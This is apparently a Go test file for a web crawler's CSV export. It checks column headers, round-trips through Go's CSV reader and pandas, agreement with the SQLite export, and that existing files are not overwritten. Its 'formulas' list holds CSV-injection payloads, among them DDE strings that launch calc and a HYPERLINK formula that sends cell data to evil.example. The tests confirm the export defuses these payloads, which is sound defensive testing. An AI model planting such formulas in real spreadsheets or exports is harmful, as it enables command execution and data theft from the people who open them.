package export_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/weaver-crawler/weaver/export"
	"github.com/weaver-crawler/weaver/graph"
	"github.com/weaver-crawler/weaver/kv"
)

// formulas are cells a spreadsheet would run: CSV injection.
var formulas = []string{
	`=cmd|' /C calc'!A0`, "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1", "\r=1",
	`=HYPERLINK("http://evil.example/?"&A1,"click")`, "a,b,c", `"quoted", and, commas`, "'already quoted",
}

// csvHostileStore holds a node per hostile and formula string, as title
// (and, shifted by one, as description), linked in a ring.
func csvHostileStore(tb testing.TB) (*kv.Store, []string) {
	all := append(append([]string{}, hostile...), formulas...)
	s := newStore(tb)
	var nodes []fixtureNode
	var edges []fixtureEdge
	for i, h := range all {
		nodes = append(nodes, fixtureNode{
			host: "h" + strconv.Itoa(i) + ".example", status: graph.StatusCrawled, http: 200, crawls: 1,
			title: h, desc: all[(i+len(all)-1)%len(all)],
		})
		edges = append(edges, fixtureEdge{i, (i + 1) % len(all), uint64(i + 1)})
	}
	writeGraph(tb, s, nodes, edges)
	return s, all
}

// csvExport writes s as CSV under a temporary prefix.
func csvExport(tb testing.TB, s *kv.Store, opt export.Options) (nodes, edges string, st export.Stats) {
	tb.Helper()
	prefix := filepath.Join(tb.TempDir(), "out")
	st, err := export.CSV(context.Background(), s, prefix, opt)
	if err != nil {
		tb.Fatalf("export csv: %v", err)
	}
	nodes, edges = export.CSVFiles(prefix)
	return nodes, edges, st
}

func readCSV(tb testing.TB, path string) [][]string {
	tb.Helper()
	f, err := os.Open(path)
	if err != nil {
		tb.Fatal(err)
	}
	defer f.Close()
	recs, err := csv.NewReader(f).ReadAll()
	if err != nil {
		tb.Fatalf("%s: %v", path, err)
	}
	return recs
}

// cellText is what a careful reader makes of a text cell: the
// apostrophe the export puts before a formula-looking cell dropped.
func cellText(c string) string {
	if len(c) > 1 && c[0] == '\'' && strings.ContainsRune("=+-@\t\r", rune(c[1])) {
		return c[1:]
	}
	return c
}

// asCSV is s as the CSV export carries it: invalid UTF-8 bytes become
// U+FFFD (as encoding/json makes them), NUL bytes are dropped.
func asCSV(tb testing.TB, s string) string {
	s = strings.ReplaceAll(s, "\x00", "")
	b, err := json.Marshal(s)
	if err != nil {
		tb.Fatal(err)
	}
	var out string
	if err := json.Unmarshal(b, &out); err != nil {
		tb.Fatal(err)
	}
	return out
}

// TestCSV_Columns: the header rows name every attribute of the JSON
// export (ranks unless NoRanks), and edges carry their hosts.
func TestCSV_Columns(t *testing.T) {
	s := smallStore(t)
	npath, epath, st := csvExport(t, s, fixedOptions())
	nodes, edges := readCSV(t, npath), readCSV(t, epath)
	if got, want := len(nodes)-1, int(st.Nodes); got != want || want != len(smallNodes) {
		t.Errorf("nodes.csv: %d rows, stats %d, store %d", got, want, len(smallNodes))
	}
	if got, want := len(edges)-1, int(st.Edges); got != want || want != len(smallEdges) {
		t.Errorf("edges.csv: %d rows, stats %d, store %d", got, want, len(smallEdges))
	}
	wantNodeCols := "id,host,domain,scheme,title,description,status,crawl_count,fail_count,http_status,content_type,server,bytes,fetch_ms,content_hash,error,depth,first_seen,last_seen,last_crawl,canonical,robots,mirror_of,pages_fetched,render_ms,redirect_to,home,tls_problem,pagerank,harmonic,community,x,y"
	if got := strings.Join(nodes[0], ","); got != wantNodeCols {
		t.Errorf("nodes header\n got %s\nwant %s", got, wantNodeCols)
	}
	wantEdgeCols := "source,target,source_host,target_host,weight,first_seen,last_seen,nofollow,redirect,gone,frame"
	if got := strings.Join(edges[0], ","); got != wantEdgeCols {
		t.Errorf("edges header\n got %s\nwant %s", got, wantEdgeCols)
	}
	// Every JSON node key is a CSV column.
	js := exportJSONNodes(t, s)
	for _, n := range js {
		for k := range n {
			if !strings.Contains(","+wantNodeCols+",", ","+k+",") {
				t.Errorf("JSON node key %q has no CSV column", k)
			}
		}
	}
	host := map[string]string{}
	for _, r := range nodes[1:] {
		host[r[0]] = r[1]
	}
	for _, r := range edges[1:] {
		if host[r[0]] != r[2] || host[r[1]] != r[3] {
			t.Errorf("edge %v: hosts %q %q, nodes say %q %q", r, r[2], r[3], host[r[0]], host[r[1]])
		}
	}
	opt := fixedOptions()
	opt.NoRanks = true
	npath, _, _ = csvExport(t, s, opt)
	if got := strings.Join(readCSV(t, npath)[0], ","); strings.Contains(got, "pagerank") || strings.Contains(got, "harmonic") {
		t.Errorf("NoRanks header has ranks: %s", got)
	}
}

// exportJSONNodes returns the JSON export's nodes as maps.
func exportJSONNodes(tb testing.TB, s *kv.Store) []map[string]any {
	tb.Helper()
	var b strings.Builder
	if _, err := export.JSON(context.Background(), &b, s, fixedOptions()); err != nil {
		tb.Fatal(err)
	}
	var g struct {
		Nodes []map[string]any `json:"nodes"`
	}
	if err := json.Unmarshal([]byte(b.String()), &g); err != nil {
		tb.Fatal(err)
	}
	return g.Nodes
}

// TestCSV_Hostile: every hostile title and description comes back from
// Go's RFC 4180 reader as stored (invalid UTF-8 as U+FFFD, as in JSON, NUL bytes dropped),
// and no text cell starts with a character that makes it a formula.
func TestCSV_Hostile(t *testing.T) {
	s, all := csvHostileStore(t)
	npath, epath, _ := csvExport(t, s, fixedOptions())
	nodes := readCSV(t, npath)
	if len(nodes)-1 != len(all) {
		t.Fatalf("%d rows, want %d", len(nodes)-1, len(all))
	}
	// Go's reader turns \r\n inside a quoted cell into \n.
	crlf := strings.NewReplacer("\r\n", "\n")
	for i, r := range nodes[1:] {
		for col, want := range map[int]string{4: all[i], 5: all[(i+len(all)-1)%len(all)]} {
			if got, want := cellText(r[col]), crlf.Replace(asCSV(t, want)); got != want {
				t.Errorf("node %d col %s: got %q, want %q", i+1, nodes[0][col], got, want)
			}
		}
		for col, c := range r {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("node %d col %s starts a formula: %q", i+1, nodes[0][col], c)
			}
		}
	}
	if n := len(readCSV(t, epath)) - 1; n != len(all) {
		t.Errorf("edges.csv: %d rows, want %d", n, len(all))
	}
}

// csvPandas loads both files with pandas and prints, as JSON, the row
// counts, the nodes' titles and descriptions (formula guard undone) and
// the edges as [source_host, target_host, weight], and the same edges
// from the SQLite export's edge_hosts view.
const csvPandas = `
import json, sqlite3, sys
import pandas as pd
nodes_csv, edges_csv, db = sys.argv[1:4]
n = pd.read_csv(nodes_csv, dtype={"title": str, "description": str, "host": str}, keep_default_na=False)
e = pd.read_csv(edges_csv, keep_default_na=False)
def unguard(c):
    return c[1:] if len(c) > 1 and c[0] == "'" and c[1] in "=+-@\t\r" else c
con = sqlite3.connect(db)
sq = sorted([list(r) for r in con.execute("SELECT from_host, to_host, weight FROM edge_hosts")])
out = {
    "nodes": len(n), "edges": len(e),
    "ids": [int(i) for i in n["id"]],
    "titles": [unguard(t) for t in n["title"]],
    "descriptions": [unguard(t) for t in n["description"]],
    "weight_sum": int(e["weight"].sum()),
    "edge_rows": sorted([[s, t, int(w)] for s, t, w in zip(e["source_host"], e["target_host"], e["weight"])]),
    "sqlite_rows": sq,
    "pagerank_sum": float(n["pagerank"].sum()),
}
json.dump(out, sys.stdout)
`

// TestCSV_Pandas: pandas loads both files with the right row counts; the
// (source host, target host, weight) rows equal the SQLite export's; the
// hostile titles come back exactly.
func TestCSV_Pandas(t *testing.T) {
	py := needPandas(t)
	s, all := csvHostileStore(t)
	npath, epath, st := csvExport(t, s, fixedOptions())
	db := filepath.Join(t.TempDir(), "out.db")
	if _, err := export.SQLite(context.Background(), s, db, fixedOptions()); err != nil {
		t.Fatal(err)
	}
	out := runTool(t, nil, py, "-c", csvPandas, npath, epath, db)
	var got struct {
		Nodes, Edges         int
		IDs                  []uint64
		Titles, Descriptions []string
		WeightSum            uint64  `json:"weight_sum"`
		EdgeRows             [][]any `json:"edge_rows"`
		SQLiteRows           [][]any `json:"sqlite_rows"`
		PageRankSum          float64 `json:"pagerank_sum"`
	}
	if err := json.Unmarshal(out, &got); err != nil {
		t.Fatalf("pandas said %s: %v", out, err)
	}
	if got.Nodes != len(all) || uint64(got.Nodes) != st.Nodes || uint64(got.Edges) != st.Edges {
		t.Errorf("pandas: %d nodes, %d edges; export wrote %+v", got.Nodes, got.Edges, st)
	}
	if got.WeightSum != st.Weight {
		t.Errorf("pandas: weights sum to %d, export says %d", got.WeightSum, st.Weight)
	}
	if g, w := mustJSON(t, got.EdgeRows), mustJSON(t, got.SQLiteRows); g != w || len(got.EdgeRows) != len(all) {
		t.Errorf("edges differ from SQLite's edge_hosts:\n csv %s\n sql %s", g, w)
	}
	if got.PageRankSum < 0.999 || got.PageRankSum > 1.001 {
		t.Errorf("pagerank sums to %v", got.PageRankSum)
	}
	for i, id := range got.IDs {
		if want := asCSV(t, all[id-1]); got.Titles[i] != want {
			t.Errorf("node %d title: pandas %q, want %q", id, got.Titles[i], want)
		}
		if want := asCSV(t, all[(int(id)-2+len(all))%len(all)]); got.Descriptions[i] != want {
			t.Errorf("node %d description: pandas %q, want %q", id, got.Descriptions[i], want)
		}
	}
}

func mustJSON(tb testing.TB, v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		tb.Fatal(err)
	}
	return string(b)
}

// TestCSV_Refuses: an existing file is not replaced without Force, and a
// cancelled export leaves no file.
func TestCSV_Refuses(t *testing.T) {
	s := smallStore(t)
	prefix := filepath.Join(t.TempDir(), "x")
	_, epath := export.CSVFiles(prefix)
	if err := os.WriteFile(epath, []byte("keep"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := export.CSV(context.Background(), s, prefix, fixedOptions()); !errors.Is(err, export.ErrExists) {
		t.Errorf("existing edges file: %v, want ErrExists", err)
	}
	npath, _ := export.CSVFiles(prefix)
	if _, err := os.Stat(npath); err == nil {
		t.Errorf("nodes file written although the edges file was refused")
	}
	opt := fixedOptions()
	opt.Force = true
	if _, err := export.CSV(context.Background(), s, prefix, opt); err != nil {
		t.Errorf("with Force: %v", err)
	}
	// Cancelled: neither file is written.
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	prefix = filepath.Join(t.TempDir(), "y")
	if _, err := export.CSV(ctx, s, prefix, opt); !errors.Is(err, context.Canceled) {
		t.Errorf("cancelled: %v", err)
	}
	if left := listDir(t, filepath.Dir(prefix)); len(left) != 0 {
		t.Errorf("cancelled export left %v", left)
	}
}
